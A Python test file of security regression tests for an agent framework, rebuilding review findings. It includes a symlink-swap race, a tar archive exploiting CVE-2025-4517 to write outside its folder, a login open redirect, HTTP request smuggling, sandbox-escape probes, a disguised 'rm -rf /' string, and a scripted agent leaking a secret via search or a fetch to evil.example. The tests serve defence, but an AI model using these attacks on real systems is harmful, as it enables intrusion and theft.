"""Findings of a review, each tried through a face that was there before it was mended: HTTP, commands, tool calls, the sandbox.

Nothing is imported here that came with the repairs, so that each of these can be run on the commit before; what happened there
is in docs/security-regressions.md. The variants of each attempt are in the other files of this folder.
"""

import asyncio
import ctypes
import errno
import io
import json
import os
import re
import select
import shutil
import signal
import socket
import string
import sys
import tarfile
import threading
from contextlib import contextmanager
from functools import partial
from hashlib import sha256
from pathlib import Path
from urllib.error import HTTPError
from urllib.request import urlopen

import httpx
import pytest
from starlette.applications import Starlette

from browser import Browser, needs_browser
from cli.running import start, treadle
from server.running import Serving, assistant, host
from treadle import Agent, RunContext, ToolProblem, TreadleError, allow, tool
from treadle.admin.backup import restore_backup
from treadle.assistants.courses.material.formats.html import read_html
from treadle.assistants.reading.routes import routes
from treadle.assistants.reading.tools import build_reading_toolset
from treadle.core.calls import Call
from treadle.core.entries import Finished, Opened, Said
from treadle.core.errors import SettingsError
from treadle.home import close_home, open_home
from treadle.models.scripted import calls
from treadle.passages import UnreadableDocument
from treadle.sandbox.probe import check_sandbox
from treadle.sandbox.runner import run_command
from treadle.sandbox.values import Bounds, SandboxSpec
from treadle.testing import Scripted
from treadle.toolsets.workspace.tools import workspace_tools

SECRET = "zanzibar-4711"
HERE, EXCHANGE = -100, 2  # of renameat2
PYTHON = str(Path(sys.executable).resolve())
PATIENCE = 120  # seconds, after which something hangs


# files


@pytest.fixture
def work(tmp_path, monkeypatch):
    """The folder that a server was started in, with one of somebody else's beside it."""
    work = tmp_path / "work"
    (work / "x" / "a").mkdir(parents=True)
    (work / "x" / "a" / "a.py").write_text("mine")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "a.py").write_text(SECRET)
    (work / "x" / "link").symlink_to(tmp_path / "outside")
    monkeypatch.chdir(work)
    monkeypatch.setenv("TREADLE_HOME", str(tmp_path / "data"))
    return work


def get(work, *urls):
    """What reading's routes answer, one request after another."""

    async def ask():
        transport = httpx.ASGITransport(Starlette(routes=routes(host(work.parent / "served"))), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return [await client.get(url) for url in urls]

    return asyncio.run(ask())


@contextmanager
def changing_places(one, other):
    """A folder and a link change places, again and again."""
    rename, over = ctypes.CDLL(None, use_errno=True).renameat2, threading.Event()

    def change():
        while not over.is_set():
            rename(HERE, os.fsencode(one), HERE, os.fsencode(other), EXCHANGE)

    thread = threading.Thread(target=change, daemon=True)
    thread.start()
    try:
        yield
    finally:
        over.set()
        thread.join()


def test_a_folder_that_becomes_a_link_shows_nobody_elses_file(work):
    with changing_places(work / "x" / "a", work / "x" / "link"):
        answers = get(work, *["/api/reading/file?path=x/a/../a/a.py"] * 250)
    assert [each.text for each in answers if SECRET in each.text] == []


def test_a_pipe_in_the_folder_keeps_no_request_waiting(work):
    os.mkfifo(work / "pipe.py")
    answers = []
    asking = threading.Thread(target=lambda: answers.extend(get(work, "/api/reading/file?path=pipe.py")), daemon=True)
    asking.start()
    asking.join(PATIENCE)
    is_waiting = asking.is_alive()
    if is_waiting:
        os.close(os.open(work / "pipe.py", os.O_WRONLY | os.O_NONBLOCK))  # let it go
    assert not is_waiting
    assert [each.status_code for each in answers] == [400]


def test_readings_route_and_tools_do_not_show_a_file_of_secrets(work):
    (work / ".env").write_text(f"SAFE={SECRET}\n")
    model = Scripted(calls(("refer_to_source_code", {"path": ".env", "start_line": 1, "end_line": 1})), "Done.")
    result = Agent(model, toolsets=[build_reading_toolset(work)], policy=[allow("*")]).run_sync("What is in .env?")
    shown = [get(work, "/api/reading/file?path=.env")[0].text, *[str(call.result) for call in result.calls]]
    assert [text for text in shown if SECRET in text] == []


READS = {
    "reading": (build_reading_toolset, "refer_to_source_code", {"path": "a.py", "start_line": 1, "end_line": 1}),
    "coding": (partial(workspace_tools, flat=True), "read_file", {"path": "a.py"}),
}


@pytest.mark.parametrize("face", READS)
@pytest.mark.parametrize("folder", [".ssh", ".config/systemd"])
def test_no_tool_works_in_a_folder_that_is_never_a_workspace(tmp_path, monkeypatch, folder, face):
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / folder).mkdir(parents=True)
    (tmp_path / folder / "a.py").write_text(SECRET)
    made, name, arguments = READS[face]

    async def read():
        async with made(tmp_path / folder) as tools:
            return str(await tools.call(Call("1", name, arguments), RunContext()))

    with pytest.raises((ToolProblem, TreadleError), match="Name a project's own folder"):
        asyncio.run(read())


def lines_run(html):
    """How many lines of Python a page takes."""
    count = 0

    def trace(frame, event, arg):
        nonlocal count
        count += event == "line"
        return trace

    read_html(b"<p>warm</p>")
    before = sys.gettrace()
    sys.settrace(trace)
    try:
        read_html(html.encode())
    except UnreadableDocument:
        pass
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize("piece", ["<a href='#'>", "<a href='#'>x</a>"], ids=["nested links", "links"])
def test_a_page_costs_no_more_than_in_proportion_to_its_length(piece):
    assert lines_run(piece * 800) < 2.5 * lines_run(piece * 400)


# archives

STEPS = "abcdefghijklmnop"
PATH_MAX = 4096


def member(name, kind=tarfile.REGTYPE, link="", content=b""):
    about = tarfile.TarInfo(name)
    about.type, about.linkname, about.size = kind, link, len(content)
    return about, content


def through_long_links(folder, target):
    """CVE-2025-4517: a path through links becomes too long to be resolved, so that nobody sees where it leads."""
    name = "d" * ((PATH_MAX - 40 - len(f"{folder}/.treadle-restore-12345678/home")) // len(STEPS) - 1)
    path = "home"
    for step in STEPS:
        yield member(f"{path}/{name}", tarfile.DIRTYPE)
        yield member(f"{path}/{step}", tarfile.SYMTYPE, name)
        path = f"{path}/{name}"
    end = "/".join([*STEPS, "l" * 254])
    yield member(f"home/{end}", tarfile.SYMTYPE, "../" * len(STEPS))
    yield member("home/escape", tarfile.SYMTYPE, f"{end}/../../..")
    yield member("home/flag", tarfile.LNKTYPE, f"home/escape/{target}")
    yield member("home/flag", content=b"changed")


def restored(folder, members):
    """Have an archive restored into a home in this folder."""
    with tarfile.open(folder / "a.tar.gz", "w:gz") as archive:
        for about, content in members:
            archive.addfile(about, io.BytesIO(content))
    home = open_home(folder / "inner" / "home")
    try:
        restore_backup(home, folder / "a.tar.gz")
    finally:
        close_home(home)


def test_an_archive_writes_nothing_outside_of_the_home(tmp_path):
    (tmp_path / "inner").mkdir()
    (tmp_path / "canary").write_text("mine")
    with pytest.raises(SettingsError):
        restored(tmp_path, through_long_links(tmp_path / "inner", "canary"))
    assert (tmp_path / "canary").read_text() == "mine"


def test_an_archive_that_holds_more_than_the_disk_is_refused(tmp_path, monkeypatch):
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage._replace(free=1_000))
    content = bytes(2_000)
    list_of_files = {"format": 1, "treadle": "1", "made_at": 0, "files": {"x": sha256(content).hexdigest()}}
    with pytest.raises(SettingsError, match="it holds more than"):
        restored(tmp_path, [member("home/x", content=content), member("backup.json", content=json.dumps(list_of_files).encode())])


# the server


@contextmanager
def served(home):
    """The address of `treadle serve`, as a process."""
    serving = start(home, "serve", "--port", "0")
    try:
        assert serving.stdout is not None
        address = re.search(r"http://[\w.]+:\d+", serving.stdout.readline())
        assert address is not None
        yield address[0]
    finally:
        serving.send_signal(signal.SIGINT)
        serving.communicate(timeout=PATIENCE)


def test_a_server_without_users_asks_for_a_token(tmp_path):
    with served(tmp_path) as url:
        try:
            status = urlopen(f"{url}/api/runs", timeout=PATIENCE).status
        except HTTPError as error:
            status = error.code
    assert status == 401


@needs_browser
def test_signing_in_leads_to_no_other_host(tmp_path):
    token = re.findall(r"treadle_ann_\S+", treadle(tmp_path, "users", "add", "ann").out)[0]

    async def leads_to(url, elsewhere):
        async with Browser() as browser:
            page = await browser.open(f"{url}/login?next=/..//127.0.0.1:{elsewhere.getsockname()[1]}")
            await page.click("#token")
            await page.write(token)
            await page.click("#enter")
            async with asyncio.timeout(PATIENCE):
                while await page.evaluate("location.pathname") == "/login":
                    if select.select([elsewhere], [], [], 0.05)[0]:
                        return "elsewhere"
                return "here"

    with served(tmp_path) as url, socket.create_server(("127.0.0.1", 0)) as elsewhere:
        assert asyncio.run(leads_to(url, elsewhere)) == "here"


def test_a_request_with_a_length_and_chunks_is_refused(tmp_path):
    with Serving(tmp_path) as server, socket.create_connection(("127.0.0.1", server.port), PATIENCE) as asking:
        named = (
            f"POST /api/runs HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nContent-Type: application/json\r\nConnection: close\r\n"
        )
        asking.sendall(f"{named}Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{{}}\r\n0\r\n\r\n".encode())
        status, _, body = asking.makefile("rb").read().partition(b"\r\n\r\n")
    assert status.startswith(b"HTTP/1.1 400 ")
    assert b"field" not in body  # what was in the chunks wasn't read


def test_a_run_shows_no_secret_in_the_persons_own_words(tmp_path):
    origin = {"face": "server", "assistant": "rivers", "model": "", "instructions": ""}
    said = "postgresql://anna:s3cretpass@db.example/x"
    entries = [
        Opened(agent="rivers", origin=origin, at=1.0),
        Said(text=f"Use {said}.", at=2.0),
        Finished(stopped="answered", at=3.0),
    ]

    async def write():
        home = open_home(tmp_path / "data")
        await home.journal.append("run-1", 0, entries)
        close_home(home)

    asyncio.run(write())
    with Serving(tmp_path, [assistant("rivers")], lent=host(tmp_path)) as server:
        shown = urlopen(f"{server.url}/api/runs/run-1", timeout=PATIENCE).read()
    assert b"anna" in shown
    assert b"s3cretpass" not in shown


CARD = """import('/static/approval.js').then(({{ boxFor }}) => boxFor({asked}, () => null, {{ edits: true }}).node.textContent)"""
DECEIVES = {
    "a change of direction": "pay \u202e0005 oruE\u202c to Ann",
    "letters that can't be seen": "rm\u200b -rf\u2060 /",
    "letters of another alphabet": "https://p\u0430ypal.example",
}


@needs_browser
@pytest.mark.parametrize("case", DECEIVES)
def test_an_approval_card_shows_what_would_deceive(tmp_path, case):
    asked = {"name": "send", "arguments": {"to": DECEIVES[case]}, "reason": "", "preview": ""}

    async def look():
        with Serving(tmp_path) as server:
            async with Browser() as browser:
                page = await browser.open(f"{server.url}/static/treadle.svg")
                return await page.evaluate(CARD.format(asked=json.dumps(asked)))

    odd = {letter for letter in DECEIVES[case] if ord(letter) > 127}
    assert odd & set(asyncio.run(look())) == set()


# commands


def in_sandbox(workspace, source, *given, network=False):
    """What a program prints in the sandbox."""
    here = asyncio.run(check_sandbox(workspace))
    if not here.sandboxed:
        pytest.skip(here.why)
    place = SandboxSpec(workspace, extra_read=(Path(sys.base_prefix),), network=network)
    return asyncio.run(run_command([PYTHON, "-I", "-S", "-c", source, *map(str, given)], place, Bounds(seconds=60))).output


SETUID = """
import os
os.close(os.open("tool", os.O_CREAT | os.O_WRONLY, 0o755))
os.chmod("tool", 0o4755)
"""


def test_no_command_leaves_a_program_that_runs_as_its_owner(tmp_path):
    in_sandbox(tmp_path, SETUID)
    assert [path.name for path in tmp_path.iterdir() if path.lstat().st_mode & 0o6000] == []


KEYS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key and keyctl
SEARCH = """
import ctypes, sys
found = ctypes.CDLL(None).syscall(int(sys.argv[1]), 10, -3, b"user", sys.argv[2].encode(), 0)
print("found" if found > 0 else "none")
"""


def test_a_command_finds_no_key_of_the_persons_session(tmp_path):
    add, keyctl = KEYS[os.uname().machine]
    name = f"treadle-finding-{os.getpid()}"
    key = ctypes.CDLL(None, use_errno=True).syscall(add, b"user", name.encode(), SECRET.encode(), len(SECRET), -3)
    if key < 0:
        pytest.skip(f"There is no keyring here: {errno.errorcode[ctypes.get_errno()]}")
    try:
        assert "found" not in in_sandbox(tmp_path, SEARCH, keyctl, name)
    finally:
        ctypes.CDLL(None).syscall(keyctl, 9, key, -3)


KNOCK = """
import socket
with socket.socket(socket.AF_UNIX) as asking:
    try:
        asking.connect("server.sock")
        print("connected")
    except OSError as error:
        print("refused", error)
"""


def test_a_command_reaches_no_socket_that_listens_in_its_workspace(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # the name of a socket is short
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("server.sock")
        listener.listen()
        assert "connected" not in in_sandbox(tmp_path, KNOCK)


CONNECT = """
import socket, sys
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
    print("connected")
except OSError as error:
    print("refused", error)
"""


def test_a_command_with_network_reaches_no_server_of_this_machine(tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        assert "connected" not in in_sandbox(tmp_path, CONNECT, listener.getsockname()[1], network=True)


# reads that tell

LINKS = [f"https://evil.example/{letter}" for letter in string.ascii_lowercase + string.digits]


LEAVING = {
    "in a search": ("web_search", {"query": SECRET}),
    "by a link for each letter": ("fetch", {"url": "https://evil.example/z"}),
}


@pytest.mark.parametrize("how", LEAVING)
def test_a_read_carries_nothing_private_out(how):
    told = []

    @tool(effect="read")
    def read_notes(name: str) -> str:
        """The person's own notes."""
        return f"The code of the safe is {SECRET}."

    @tool(effect="read", trust="untrusted")
    def fetch(url: str) -> dict[str, object]:
        """A page of the web."""
        told.append(url)
        return {"title": "Fares", "links": LINKS}

    @tool(effect="read", trust="untrusted")
    def web_search(query: str) -> str:
        """Search the web."""
        told.append(query)
        return "Nothing."

    made = [("read_notes", {"name": "safe"}), ("fetch", {"url": "www.fares.example"}), LEAVING[how]]
    model = Scripted(*[calls(call) for call in made], "Done.")
    agent = Agent(model, tools=[read_notes, fetch, web_search], policy=[allow("*")], approver=lambda approval: False)
    agent.run_sync("Read the notes on the safe, then tell me the fares at www.fares.example.")
    assert told == ["www.fares.example"]
